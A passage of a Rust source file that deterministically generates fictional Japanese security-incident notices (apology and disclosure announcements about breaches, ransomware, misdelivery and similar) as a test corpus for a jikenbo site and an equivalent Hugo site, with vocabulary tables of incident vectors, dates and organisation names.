//! Deterministic generator of a realistic archive of Japanese security-incident notices, written
//! both as a jikenbo site and as an equivalent Hugo site.
//!
//! Everything comes from one seeded splitmix64 stream, so a given `(n, seed)` always produces the
//! same bytes. Notices are 3–8 KB of Japanese Markdown with TOML front matter; about 20 % belong
//! to a series of 2–3 releases (第1報 → 第2報/続報 → 最終報告) linked by `incident` and `follows`;
//! 5 % contain a fenced code block; about a third contain a table; all 16 vectors occur.

// `*rng.pick(..)` derefs are needed for inference (`&[&str]` vs `&[str]`).
#![allow(clippy::explicit_auto_deref)]

use std::collections::{BTreeSet, HashSet};
use std::fmt::Write as _;
use std::fs;
use std::io;
use std::path::{Path, PathBuf};

/// Version of the generator's output; a kept corpus with another version is regenerated.
pub const VERSION: u32 = 4;

/// A small, fast, well-mixed PRNG (splitmix64).
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed)
    }
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    /// Uniform in `0..n` (n > 0).
    pub fn below(&mut self, n: usize) -> usize {
        (((self.next_u64() >> 11) as u128 * n as u128) >> 53) as usize
    }
    /// Uniform in `lo..=hi`.
    pub fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below((hi - lo + 1) as usize) as u64
    }
    /// Uniform in `[0, 1)`.
    pub fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }
    pub fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }
    pub fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len())]
    }
    /// Log-uniform integer in `lo..=hi`.
    pub fn log_range(&mut self, lo: u64, hi: u64) -> u64 {
        let (a, b) = ((lo as f64).ln(), (hi as f64).ln());
        ((a + (b - a) * self.unit()).exp().round() as u64).clamp(lo, hi)
    }
    /// `k` distinct elements of `xs`, in their original order.
    pub fn sample<T: Clone>(&mut self, xs: &[T], k: usize) -> Vec<T> {
        let mut idx: Vec<usize> = (0..xs.len()).collect();
        for i in 0..k.min(xs.len()) {
            let j = i + self.below(xs.len() - i);
            idx.swap(i, j);
        }
        let mut chosen: Vec<usize> = idx[..k.min(xs.len())].to_vec();
        chosen.sort_unstable();
        chosen.into_iter().map(|i| xs[i].clone()).collect()
    }
}

// ---------------------------------------------------------------------------------------------
// Dates (proleptic Gregorian, days since 1970-01-01).

#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct Date(i64);

impl Date {
    pub fn ymd(y: i64, m: u32, d: u32) -> Date {
        let y = if m <= 2 { y - 1 } else { y };
        let era = y.div_euclid(400);
        let yoe = y - era * 400;
        let mp = (i64::from(m) + 9) % 12;
        let doy = (153 * mp + 2) / 5 + i64::from(d) - 1;
        let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
        Date(era * 146_097 + doe - 719_468)
    }
    pub fn parts(self) -> (i64, u32, u32) {
        let z = self.0 + 719_468;
        let era = z.div_euclid(146_097);
        let doe = z - era * 146_097;
        let yoe = (doe - doe / 1460 + doe / 36524 - doe / 146_096) / 365;
        let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
        let mp = (5 * doy + 2) / 153;
        let d = (doy - (153 * mp + 2) / 5 + 1) as u32;
        let m = if mp < 10 { mp + 3 } else { mp - 9 } as u32;
        let y = yoe + era * 400 + i64::from(m <= 2);
        (y, m, d)
    }
    pub fn add(self, days: i64) -> Date {
        Date(self.0 + days)
    }
    pub fn year(self) -> i64 {
        self.parts().0
    }
    /// `2024-11-25`
    pub fn iso(self) -> String {
        let (y, m, d) = self.parts();
        format!("{y:04}-{m:02}-{d:02}")
    }
    /// `2024年11月25日`
    pub fn ja(self) -> String {
        let (y, m, d) = self.parts();
        format!("{y}年{m}月{d}日")
    }
    /// `11月25日`
    pub fn md(self) -> String {
        let (_, m, d) = self.parts();
        format!("{m}月{d}日")
    }
    /// `令和6年11月25日` (平成 before 2019-05-01)
    pub fn wareki(self) -> String {
        let (y, m, d) = self.parts();
        if self >= Date::ymd(2019, 5, 1) {
            let n = y - 2018;
            if n == 1 {
                format!("令和元年{m}月{d}日")
            } else {
                format!("令和{n}年{m}月{d}日")
            }
        } else {
            format!("平成{}年{m}月{d}日", y - 1988)
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Vocabulary.

const STEMS: &[(&str, &str)] = &[
    ("minato", "みなと"),
    ("aoba", "あおば"),
    ("kirigaoka", "霧ヶ丘"),
    ("hokuto", "北斗"),
    ("tsubame", "つばめ"),
    ("shiosai", "潮騒"),
    ("hibari", "ひばり"),
    ("yunagi", "夕凪"),
    ("akatsuki", "暁"),
    ("kazemachi", "風待"),
    ("shinonome", "東雲"),
    ("midorino", "みどり野"),
    ("kotori", "ことり"),
    ("yamabiko", "やまびこ"),
    ("kamome", "かもめ"),
    ("sakura", "さくら"),
    ("asahi", "朝日"),
    ("hoshizora", "星空"),
    ("tsukikage", "月影"),
    ("komorebi", "木漏れ日"),
    ("izumi", "いずみ"),
    ("wakaba", "若葉"),
    ("hinata", "ひなた"),
    ("kusunoki", "楠"),
    ("matsukaze", "松風"),
    ("kawasemi", "かわせみ"),
    ("sumire", "すみれ"),
    ("nanohana", "菜の花"),
    ("akane", "茜"),
    ("hamanasu", "はまなす"),
    ("ginga", "銀河"),
    ("tokiwa", "常盤"),
    ("fuyou", "芙蓉"),
    ("seiran", "青嵐"),
    ("kogane", "黄金"),
    ("hotaru", "蛍"),
    ("mizuho", "瑞穂"),
    ("tachibana", "橘"),
    ("kaede", "楓"),
    ("shirasagi", "白鷺"),
    ("mikazuki", "三日月"),
    ("nagisa", "渚"),
    ("oboro", "朧"),
    ("hayate", "疾風"),
    ("tsutsuji", "つつじ"),
    ("yamato", "大和"),
    ("hikari", "ひかり"),
    ("kasumi", "かすみ"),
    ("inaho", "稲穂"),
    ("umineko", "うみねこ"),
];

const REGIONS: &[(&str, &str)] = &[
    ("", ""),
    ("kita", "北"),
    ("minami", "南"),
    ("higashi", "東"),
    ("nishi", "西"),
    ("shin", "新"),
    ("chuo", "中央"),
    ("kami", "上"),
    ("shimo", "下"),
    ("oo", "大"),
    ("ko", "小"),
    ("naka", "中"),
];

/// (slug, name, extra label)
const INDUSTRIES: &[(&str, &str, &str)] = &[
    ("seiki", "精機", ""),
    ("shoji", "商事", ""),
    ("denki", "電機", ""),
    ("kogyo", "工業", ""),
    ("sangyo", "産業", ""),
    ("kensetsu", "建設", ""),
    ("unyu", "運輸", ""),
    ("shokuhin", "食品", "ECサイト"),
    ("yakuhin", "薬品", ""),
    ("shobo", "書房", "ECサイト"),
    ("travel", "トラベル", ""),
    ("systems", "システムズ", "委託先"),
    ("soft", "ソフト", "委託先"),
    ("net", "ネット", ""),
    ("shop", "ショップ", "ECサイト"),
    ("foods", "フーズ", "ECサイト"),
    ("home", "ホーム", ""),
    ("lease", "リース", ""),
    ("denryoku", "電力", ""),
    ("gas", "ガス", ""),
    ("hoken", "保険", "金融機関"),
    ("shoken", "証券", "金融機関"),
    ("bank", "銀行", "金融機関"),
    ("fudosan", "不動産", ""),
    ("insatsu", "印刷", "委託先"),
    ("kikaku", "企画", ""),
    ("jinzai", "人材", ""),
    ("point", "ポイント", ""),
    ("card", "カード", "金融機関"),
    ("tsuhan", "通販", "ECサイト"),
    ("dataworks", "データワークス", "委託先"),
    ("cosme", "コスメ", "ECサイト"),
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum OrgKind {
    Company,
    Municipality,
    University,
    Hospital,
    Foundation,
}

#[derive(Clone)]
pub struct Org {
    name: String,
    slug: String,
    short: String,
    kind: OrgKind,
    label: &'static str,
    domain: String,
    service: String,
}

fn make_orgs(rng: &mut Rng, count: usize) -> Vec<Org> {
    let mut seen = HashSet::new();
    let mut orgs = Vec::with_capacity(count);
    while orgs.len() < count {
        let (rs, rj) = *rng.pick(REGIONS);
        let (ss, sj) = *rng.pick(STEMS);
        let base_slug = format!("{rs}{ss}");
        let base = format!("{rj}{sj}");
        let roll = rng.below(100);
        let org = if roll < 70 {
            let (is, ij, label) = *rng.pick(INDUSTRIES);
            let form = rng.below(if is == "bank" { 1 } else { 3 });
            let name = match form {
                0 => format!("株式会社{base}{ij}"),
                1 => format!("{base}{ij}株式会社"),
                _ => format!("有限会社{base}{ij}"),
            };
            let service = match label {
                "ECサイト" => format!("{base}{ij}オンラインショップ"),
                "金融機関" => format!("{base}{ij}インターネットサービス"),
                _ => format!("{base}{ij}会員サイト"),
            };
            Org {
                slug: format!("{base_slug}-{is}{}", ["", "-kk", "-yk"][form]),
                short: format!("{base}{ij}"),
                name,
                kind: OrgKind::Company,
                label,
                domain: format!("www.{base_slug}-{is}.example"),
                service,
            }
        } else if roll < 82 {
            let (k, ks, kj) =
                *rng.pick(&[(0, "city", "市"), (1, "town", "町"), (2, "village", "村")]);
            let _ = k;
            Org {
                name: format!("{base}{kj}"),
                slug: format!("{base_slug}-{ks}"),
                short: format!("{base}{kj}"),
                kind: OrgKind::Municipality,
                label: "自治体",
                domain: format!("www.{ks}.{base_slug}.example"),
                service: format!("{base}{kj}電子申請サービス"),
            }
        } else if roll < 90 {
            let form = rng.below(4);
            let (name, s) = match form {
                0 => (format!("{base}大学"), "univ"),
                1 => (format!("{base}学院大学"), "gakuin"),
                2 => (format!("{base}工業大学"), "tech"),
                _ => (format!("学校法人{base}学園"), "gakuen"),
            };
            Org {
                short: name.trim_start_matches("学校法人").to_string(),
                name,
                slug: format!("{base_slug}-{s}"),
                kind: OrgKind::University,
                label: "教育機関",
                domain: format!("www.{base_slug}-{s}.ac.example"),
                service: format!("{base}学習支援システム"),
            }
        } else if roll < 97 {
            let form = rng.below(4);
            let (name, s) = match form {
                0 => (format!("{base}中央病院"), "hospital"),
                1 => (format!("医療法人{base}会 {base}病院"), "iryo"),
                2 => (format!("{base}市立病院"), "shiritsu-hospital"),
                _ => (format!("{base}記念病院"), "kinen-hospital"),
            };
            Org {
                short: format!("{base}病院"),
                name,
                slug: format!("{base_slug}-{s}"),
                kind: OrgKind::Hospital,
                label: "医療機関",
                domain: format!("www.{base_slug}-{s}.example"),
                service: format!("{base}病院 診療予約システム"),
            }
        } else {
            let form = rng.below(2);
            let (name, s) = match form {
                0 => (format!("公益財団法人{base}文化振興財団"), "zaidan"),
                _ => (format!("一般社団法人{base}協会"), "kyokai"),
            };
            Org {
                short: name
                    .trim_start_matches("公益財団法人")
                    .trim_start_matches("一般社団法人")
                    .to_string(),
                name,
                slug: format!("{base_slug}-{s}"),
                kind: OrgKind::Foundation,
                label: "",
                domain: format!("www.{base_slug}-{s}.example"),
                service: format!("{base}会員ポータル"),
            }
        };
        if seen.insert(org.slug.clone()) {
            orgs.push(org);
        }
    }
    orgs
}

/// One of the 16 vectors of DESIGN §4, with what a notice about it says.
struct Vector {
    id: &'static str,
    weight: u32,
    titles: &'static [&'static str],
    /// What happened, for the opening sentence ("…が判明いたしました").
    event: &'static [&'static str],
    cause: &'static [&'static str],
    data: &'static [&'static str],
    records: (u64, u64),
    /// Compatible second vectors.
    with: &'static [&'static str],
}

const GENERAL_DATA: &[&str] = &[
    "氏名",
    "住所",
    "電話番号",
    "メールアドレス",
    "生年月日",
    "性別",
    "会員ID",
    "購入履歴",
    "勤務先",
];

const VECTORS: &[Vector] = &[
    Vector {
        id: "unauthorized-access",
        weight: 12,
        titles: &[
            "当社サーバーへの不正アクセスに関するお知らせ",
            "不正アクセスによる個人情報漏えいの可能性に関するお詫びとお知らせ",
            "第三者による不正アクセスの発生について",
        ],
        event: &[
            "当社が管理するサーバーに対して第三者による不正アクセスが行われ、サーバー内に保存されていた個人情報が外部に流出した可能性があること",
            "社内ネットワークへの不正アクセスにより、業務用ファイルサーバーの情報が閲覧された可能性があること",
        ],
        cause: &[
            "攻撃者は、外部に公開されていた管理用サーバーを経由して社内ネットワークへ侵入したものと考えられますが、侵入経路の詳細については現在も調査を継続しております。",
            "不審な通信の記録から、攻撃者は管理者権限を持つアカウントを用いてサーバーへログインしていたことが確認されました。",
        ],
        data: GENERAL_DATA,
        records: (50, 300_000),
        with: &["supply-chain"],
    },
    Vector {
        id: "web-compromise",
        weight: 10,
        titles: &[
            "弊社が運営する「{svc}」への不正アクセスによる個人情報漏えいに関するお詫びとお知らせ",
            "当社ウェブサイトの改ざんに関するお知らせ",
        ],
        event: &[
            "「{svc}」のWebアプリケーションの脆弱性を悪用した第三者による不正アクセスを受け、サイトが改ざんされていたこと",
            "当社ウェブサイトに不正なファイルが設置され、閲覧者を外部の不審なサイトへ誘導する状態となっていたこと",
        ],
        cause: &[
            "調査の結果、サイトで利用していたWebアプリケーションの脆弱性を悪用され、サーバー上に不正なファイルが設置されていたことが判明いたしました。",
            "改ざんされたページには外部のサーバーから不正なスクリプトを読み込む記述が追加されており、当該記述は発見後ただちに削除いたしました。",
        ],
        data: &["氏名", "住所", "電話番号", "メールアドレス", "会員ID", "パスワード", "購入履歴"],
        records: (100, 120_000),
        with: &["card-skimming", "sql-injection"],
    },
    Vector {
        id: "card-skimming",
        weight: 9,
        titles: &[
            "「{svc}」におけるクレジットカード情報漏えいに関するお詫びとお知らせ",
            "不正アクセスによるお客様のクレジットカード情報漏えいに関するお知らせ",
        ],
        event: &[
            "「{svc}」の決済画面が改ざんされ、ご注文時に入力されたクレジットカード情報が窃取されていたこと",
        ],
        cause: &[
            "第三者がシステムの一部の脆弱性を突いてペイメントアプリケーションの改ざんを行い、カード情報を窃取するためのプログラムを設置していたことが原因と判明いたしました。",
            "改ざんされた決済画面では、お客様が入力したカード番号等が正規の決済処理とは別に外部のサーバーへ送信される状態となっておりました。",
        ],
        data: &[
            "クレジットカード名義人名",
            "クレジットカード番号",
            "有効期限",
            "セキュリティコード",
            "氏名",
            "住所",
            "電話番号",
            "メールアドレス",
        ],
        records: (100, 60_000),
        with: &["web-compromise"],
    },
    Vector {
        id: "sql-injection",
        weight: 4,
        titles: &["「{svc}」へのSQLインジェクション攻撃による会員情報流出に関するお知らせ"],
        event: &[
            "「{svc}」の会員検索機能に対するSQLインジェクション攻撃により、会員データベースの情報が外部に流出したこと",
        ],
        cause: &[
            "会員検索機能において、入力値をSQL文に組み込む処理に不備があり、SQLインジェクションの脆弱性が存在しておりました。",
            "攻撃者はこの脆弱性を悪用し、データベースに保存されていた会員情報を複数回にわたり取得していたことがアクセスログから確認されました。",
        ],
        data: &["氏名", "メールアドレス", "会員ID", "パスワード（ハッシュ化済み）", "電話番号", "生年月日"],
        records: (500, 400_000),
        with: &["web-compromise"],
    },
    Vector {
        id: "xss",
        weight: 2,
        titles: &["「{svc}」におけるクロスサイトスクリプティングの脆弱性と情報流出の可能性について"],
        event: &[
            "「{svc}」のお問い合わせフォームにクロスサイトスクリプティング（XSS）の脆弱性があり、管理画面の閲覧者の情報が窃取された可能性があること",
        ],
        cause: &[
            "お問い合わせフォームの入力内容を管理画面に表示する処理でエスケープが行われておらず、クロスサイトスクリプティングの脆弱性が存在しておりました。",
        ],
        data: &["氏名", "メールアドレス", "お問い合わせ内容", "電話番号"],
        records: (20, 20_000),
        with: &["web-compromise"],
    },
    Vector {
        id: "remote-access",
        weight: 7,
        titles: &[
            "VPN機器への不正アクセスに関するお知らせ",
            "リモートアクセス機器を経由した不正アクセスについて",
        ],
        event: &[
            "リモートアクセスに利用していたVPN機器の脆弱性を悪用され、社内ネットワークに不正アクセスされたこと",
            "保守用のリモートデスクトップ接続を経由して、第三者がサーバーに不正にログインしていたこと",
        ],
        cause: &[
            "侵入に利用されたVPN機器には、メーカーから修正プログラムが公開されていた脆弱性が残っており、適用が遅れていたことが原因と考えられます。",
            "保守作業のために開放していたリモートデスクトップ（RDP）のポートが、作業終了後も閉じられていなかったことが判明いたしました。",
        ],
        data: GENERAL_DATA,
        records: (100, 500_000),
        with: &["ransomware"],
    },
    Vector {
        id: "ransomware",
        weight: 9,
        titles: &[
            "ランサムウェア被害の発生について",
            "ランサムウェアによるシステム障害についてのお知らせ",
            "サイバー攻撃によるシステム障害の発生と復旧状況について",
        ],
        event: &[
            "当社のサーバーがランサムウェアに感染し、保存されていたデータが暗号化されたこと",
            "基幹システムのサーバー群がランサムウェアによる攻撃を受け、業務システムが停止したこと",
        ],
        cause: &[
            "攻撃者は、サーバー内のデータを暗号化したうえで、復旧と引き換えに身代金を要求する脅迫文を残しておりました。当社は攻撃者の要求には応じておりません。",
            "暗号化されたサーバーのうち一部については、バックアップからの復元を完了しております。",
        ],
        data: GENERAL_DATA,
        records: (1_000, 2_000_000),
        with: &["remote-access", "supply-chain"],
    },
    Vector {
        id: "malware",
        weight: 6,
        titles: &[
            "マルウェア（Emotet）感染に関するお詫びとお知らせ",
            "当社従業員のパソコンのウイルス感染について",
        ],
        event: &[
            "当社従業員の業務用パソコンがマルウェア「Emotet」に感染し、メールアドレス等の情報が窃取されたこと",
            "業務用端末がウイルスに感染し、端末内の情報が外部に送信された可能性があること",
        ],
        cause: &[
            "取引先を装ったメールに添付されていたファイルを開いたことにより、端末がマルウェアに感染いたしました。",
            "感染した端末からは、メールソフトに保存されていた連絡先およびメールの本文が窃取された可能性があります。",
        ],
        data: &["氏名", "メールアドレス", "メール本文", "電話番号"],
        records: (100, 50_000),
        with: &["phishing"],
    },
    Vector {
        id: "phishing",
        weight: 5,
        titles: &[
            "当社を装ったフィッシングメールに関する注意喚起とお詫び",
            "なりすましメールによる被害の発生について",
        ],
        event: &[
            "当社の名をかたるフィッシングメールが送信され、偽のログインページに入力された情報が窃取されたこと",
        ],
        cause: &[
            "当社従業員がフィッシングメールに記載されたリンクから偽のログインページにアクセスし、業務用アカウントのIDとパスワードを入力したことが原因です。",
            "窃取されたアカウントからは、取引先に対してなりすましメールが送信されていたことを確認しております。",
        ],
        data: &["氏名", "メールアドレス", "会社名", "電話番号"],
        records: (10, 30_000),
        with: &["account-takeover", "malware"],
    },
    Vector {
        id: "account-takeover",
        weight: 6,
        titles: &["「{svc}」への不正ログインについて", "会員アカウントへの不正ログインに関するお知らせ"],
        event: &[
            "「{svc}」に対して、外部で不正に入手されたと考えられるIDとパスワードを用いた不正ログイン（いわゆるリスト型攻撃）が行われたこと",
        ],
        cause: &[
            "当社のシステムからIDやパスワードが流出した事実は確認されておらず、他のサービスから流出したパスワードリストを用いたリスト型攻撃であると考えております。",
            "不正ログインされたアカウントでは、保有ポイントが第三者によって電子ギフト券に交換されていたことを確認しております。",
        ],
        data: &["氏名", "メールアドレス", "保有ポイント数", "購入履歴", "住所"],
        records: (50, 200_000),
        with: &["phishing"],
    },
    Vector {
        id: "misdelivery",
        weight: 12,
        titles: &[
            "メールの誤送信による個人情報の流出について",
            "{doc}の誤送付について",
            "個人情報を含む書類の誤送付に関するお詫び",
        ],
        event: &[
            "お客様へのご案内メールを送信する際、本来BCCで送信すべきところを誤ってTOに入力して送信したこと",
            "{doc}を郵送する際、別の方の書類を誤って封入し送付していたこと",
            "FAXの送信先番号を誤り、関係のない事業者へ個人情報を含む書類を送信したこと",
        ],
        cause: &[
            "送信前に宛先の確認を複数人で行う手順が定められていたものの、当日は担当者一人で作業を行っていたことが原因です。",
            "封入封緘機の設定を変更した際に書類の順番がずれ、一部の封筒に次の方の書類が入っていたことが判明いたしました。",
        ],
        data: &["氏名", "メールアドレス", "住所", "書類の記載内容"],
        records: (1, 5_000),
        with: &[],
    },
    Vector {
        id: "loss-theft",
        weight: 7,
        titles: &[
            "個人情報を含むUSBメモリの紛失について",
            "業務用パソコンの盗難について",
        ],
        event: &[
            "職員が個人情報を含むUSBメモリを紛失したこと",
            "従業員が業務用のノートパソコンを車内に置き忘れ、盗難に遭ったこと",
        ],
        cause: &[
            "当該USBメモリは、持ち出しの許可を得ないまま自宅で作業を行うために持ち出されたものでした。",
            "盗難に遭ったパソコンにはパスワードが設定されておりましたが、ハードディスクの暗号化は行われておりませんでした。",
        ],
        data: &["氏名", "住所", "電話番号", "生年月日"],
        records: (1, 10_000),
        with: &[],
    },
    Vector {
        id: "insider",
        weight: 3,
        titles: &["元従業員による個人情報の不正な持ち出しについて", "職員による個人情報の不正利用について"],
        event: &[
            "元従業員が在職中に顧客情報を不正に持ち出し、転職先で利用していたこと",
            "職員が業務の目的外で住民の個人情報を閲覧し、第三者に漏らしていたこと",
        ],
        cause: &[
            "当該従業員は、業務上付与されていた閲覧権限を用いて顧客情報をダウンロードし、私物の記録媒体に保存して持ち出しておりました。当該職員は懲戒処分といたしました。",
        ],
        data: &["氏名", "住所", "電話番号", "取引履歴"],
        records: (10, 30_000),
        with: &[],
    },
    Vector {
        id: "misconfiguration",
        weight: 7,
        titles: &[
            "設定不備による個人情報の閲覧可能な状態について",
            "クラウドストレージの公開設定の誤りによる情報流出の可能性について",
        ],
        event: &[
            "クラウドストレージの公開設定に誤りがあり、個人情報を含むファイルがインターネット上から閲覧可能な状態になっていたこと",
            "ウェブサイトの設定不備により、申込者の情報を含むファイルが誤って公開されていたこと",
        ],
        cause: &[
            "ファイル共有の設定を変更した際に、アクセス権限が「リンクを知っている全員」に変更されていたことに気付かなかったことが原因です。",
        ],
        data: &["氏名", "メールアドレス", "電話番号", "申込内容"],
        records: (10, 100_000),
        with: &["supply-chain"],
    },
    Vector {
        id: "software-bug",
        weight: 4,
        titles: &["システム不具合による他の会員情報の表示について"],
        event: &[
            "システムの不具合により、「{svc}」のマイページにログインした一部の会員に、他の会員の情報が表示されていたこと",
        ],
        cause: &[
            "システム更新の際に、キャッシュの設定に関するプログラムの誤りが混入し、他の会員の情報が表示される状態となっておりました。",
        ],
        data: &["氏名", "会員ID", "住所", "購入履歴"],
        records: (5, 20_000),
        with: &[],
    },
    Vector {
        id: "supply-chain",
        weight: 8,
        titles: &[
            "業務委託先への不正アクセスによる個人情報漏えいについて",
            "委託先事業者におけるランサムウェア被害に伴う個人情報漏えいの可能性について",
        ],
        event: &[
            "当社が業務を委託している事業者のサーバーが不正アクセスを受け、当社のお客様の個人情報が流出した可能性があること",
        ],
        cause: &[
            "委託先事業者からの報告によれば、同社のシステムが外部から攻撃を受けたものであり、当社のシステムへの影響は確認されておりません。",
            "当社は委託先に対し、再委託先を含めた調査の実施と、結果の速やかな報告を求めております。",
        ],
        data: GENERAL_DATA,
        records: (100, 800_000),
        with: &["ransomware", "unauthorized-access"],
    },
];

const DOCS: &[&str] = &[
    "児童手当現況届",
    "固定資産税納税通知書",
    "健康診断結果通知",
    "会員証",
    "請求書",
    "ご契約内容のお知らせ",
    "奨学金の案内",
    "受験票",
];

const SYSTEMS: &[&str] = &[
    "顧客管理システム",
    "会員データベース",
    "ファイルサーバー",
    "基幹業務システム",
    "メールサーバー",
    "予約管理システム",
    "電子カルテシステム",
    "学務システム",
];

const DEPTS: &[&str] = &[
    "情報システム部",
    "お客様相談室",
    "総務部",
    "広報室",
    "カスタマーサポートセンター",
    "個人情報保護窓口",
];

const CHRONO: &[&str] = &[
    "{d1}、{sys}において通常と異なる通信が発生していることを監視システムが検知いたしました。",
    "{d1}、お客様から「身に覚えのないメールが届いた」とのお問い合わせをいただき、調査を開始いたしました。",
    "同日中に該当するサーバーをネットワークから切り離し、外部との通信を遮断いたしました。",
    "{d2}には外部のセキュリティ専門会社に調査を依頼し、フォレンジック調査を開始いたしました。",
    "{d2}、所管の監督官庁および個人情報保護委員会に報告いたしました。",
    "{d2}、警察に被害の相談を行い、今後の捜査に全面的に協力してまいります。",
    "調査の過程で、{sys}のアクセスログの一部が削除されていたことも確認されました。",
    "当社は、事態の全容を把握するため、社内に対策本部を設置し、全社を挙げて対応にあたっております。",
    "これまでの調査では、{n1}件のログイン試行のうち、{n2}件で認証に成功していたことが判明しております。",
    "{d1}の時点で、影響の範囲は{sys}に限られるものと判断しておりましたが、その後の調査で範囲が広がる可能性が判明いたしました。",
    "該当するお客様には、{d2}から順次、電子メールまたは書面にてご連絡を差し上げております。",
    "対応の経緯については、判明した事実を確認しながら、本ページにて順次ご報告いたします。",
    "{d2}、対象となる可能性のあるお客様の範囲を特定するため、{sys}に保存されていたデータの精査を開始いたしました。",
    "{d2}までに、不正に設置されたプログラムの削除と、認証情報の変更を完了いたしました。",
    "調査期間中は、安全を確保するため{svc}の提供を一時的に停止しておりました。",
    "当初は障害と考えておりましたが、{d2}に外部からの攻撃によるものであると判断いたしました。",
    "専門会社による調査は、{n1}件のログを対象に、約{n2}時間をかけて行われました。",
    "{d2}、取締役会において本件の報告を行い、再発防止策の検討を開始いたしました。",
    "社内の調査チームは、当該期間に{sys}へアクセスした全ての端末の記録を確認いたしました。",
    "この間、お客様からのお問い合わせに対応するため、専用の窓口を設置いたしました。",
    "{d2}、影響を受けた可能性のある取引先の皆様に対し、個別にご説明を行いました。",
    "本件の公表までにお時間をいただきましたことについても、深くお詫び申し上げます。",
];

const CAUSE_FILL: &[&str] = &[
    "当社の情報管理体制に不十分な点があったことを重く受け止めております。",
    "同様の手順は他の部署でも行われていたことから、全社的な点検を実施いたしました。",
    "外部専門機関の調査報告書では、{sys}の運用において、アクセス権限の見直しが定期的に行われていなかったことが指摘されております。",
    "なお、現時点で本件に起因する二次被害の発生は確認されておりません。",
    "攻撃に用いられた通信は、海外の複数のIPアドレスを経由したものでした。",
    "ログの保存期間を超えた期間については、流出の有無を確認することができませんでした。",
    "担当者への聞き取りにより、手順書の内容が実際の運用と合っていなかったことが明らかになりました。",
    "調査の結果、{d1}以前に同様の事象が発生した形跡は確認されておりません。",
    "{sys}へのアクセスには二段階認証が設定されておらず、IDとパスワードのみで接続できる状態でした。",
    "当該システムの保守は外部の事業者に委託しておりましたが、委託先との間で脆弱性情報の共有が十分に行われておりませんでした。",
    "作業手順の確認が形骸化しており、チェックリストへの記入のみで確認が済まされていたことも判明いたしました。",
    "不正に取得された情報が、インターネット上で公開または売買されている事実は、現時点で確認されておりません。",
    "当該端末には、業務上必要な範囲を超える{n1}件の個人情報が保存されておりました。",
    "監視システムの警告は発報されていたものの、担当者がその重要性を認識できず、対応が遅れたことも被害の拡大につながりました。",
    "システムの構成図が最新の状態に保たれておらず、影響範囲の特定に時間を要しました。",
    "古いバージョンのソフトウェアが、サポート期間の終了後も使用され続けておりました。",
];

const MEASURES: &[&str] = &[
    "全てのサーバーについて、最新の修正プログラムの適用状況を点検し、未適用のものは速やかに適用いたしました。",
    "管理者アカウントのパスワードを全て変更し、多要素認証を導入いたしました。",
    "外部からの不審な通信を監視する体制を24時間365日に強化いたします。",
    "個人情報を取り扱う全ての従業員を対象に、情報セキュリティ研修を改めて実施いたします。",
    "個人情報の持ち出しに関する規程を見直し、記録媒体の利用を原則として禁止いたします。",
    "メールの送信時に宛先を自動的に確認する仕組みを導入し、一斉送信には専用のシステムを用いることといたしました。",
    "委託先の選定および監督に関する基準を見直し、定期的な監査を実施いたします。",
    "システムの設計および運用の全般について、第三者による評価を受け、指摘事項を順次改善してまいります。",
    "{d3}を目途に、新たなセキュリティ対策を講じたシステムでサービスを再開する予定です。",
    "個人情報を保存するサーバーについて、アクセスできる端末と利用者を必要最小限に限定いたします。",
    "脆弱性診断を年2回実施し、その結果を経営会議に報告する体制といたします。",
    "インシデント対応の手順書を改訂し、検知から公表までの判断基準を明確にいたします。",
    "保存期間を過ぎた個人情報を定期的に削除する運用を徹底いたします。",
    "ログの保存期間を1年間に延長し、改ざんを防止する仕組みを導入いたします。",
    "情報セキュリティ委員会を新たに設置し、対策の実施状況を継続的に確認してまいります。",
    "全ての業務用端末に、不審な動作を検知して自動的に隔離する仕組み（EDR）を導入いたしました。",
];

const ASKS: &[&str] = &[
    "お客様におかれましては、身に覚えのない電話やメール、郵便物等に十分ご注意くださいますようお願い申し上げます。",
    "クレジットカードのご利用明細書に身に覚えのない請求項目がないか、今一度ご確認をお願いいたします。",
    "他のサービスで同じパスワードをお使いの場合は、そちらの変更もあわせてご検討ください。",
    "不審な連絡を受けた場合には、下記のお問い合わせ窓口までご連絡ください。",
    "本件を装った不審な電話やメールにつきましても、ご注意くださいますようお願いいたします。",
    "当社から電話やメールでお客様のパスワードやカード番号をお尋ねすることはございません。",
    "ご不明な点がございましたら、専用のお問い合わせ窓口までご連絡くださいますようお願い申し上げます。",
    "対象のお客様には、個別に書面にてご案内を差し上げておりますので、お手数ですがご確認ください。",
    "身に覚えのない請求を受けた場合には、お支払いをなさらず、当社または最寄りの警察署にご相談ください。",
    "クレジットカード会社と連携し、不正利用のモニタリングを継続して実施しております。",
];

const CLOSINGS: &[&str] = &[
    "このたびは、お客様をはじめ関係者の皆様に多大なるご迷惑とご心配をおかけいたしましたことを、重ねて深くお詫び申し上げます。",
    "今後も新たな事実が判明した場合には、速やかにお知らせいたします。",
    "当社は今回の事態を厳粛に受け止め、再発防止に全力で取り組んでまいります。",
];

// ---------------------------------------------------------------------------------------------
// Notices.

/// One generated notice, with everything both site formats need.
struct Notice {
    id: String,
    year: i64,
    title: String,
    org: usize,
    published: Date,
    incident: Option<String>,
    labels: Vec<String>,
    vectors: Vec<&'static str>,
    records: u64,
    cards: Option<u64>,
    data: Vec<String>,
    exposure: Option<(Date, Date)>,
    discovered: Date,
    /// (id, year, date, title) of the release this one follows.
    follows: Option<(String, i64, Date, String)>,
    source: String,
    body: String,
}

/// What was generated.
pub struct Corpus {
    pub notices: usize,
    pub orgs: usize,
    pub series_notices: usize,
    pub with_code: usize,
    pub with_table: usize,
    pub content_bytes: u64,
    /// Every notice file of the jikenbo site.
    pub files: Vec<PathBuf>,
    /// Raw (front-matter-less) copies of some notices, for extraction.
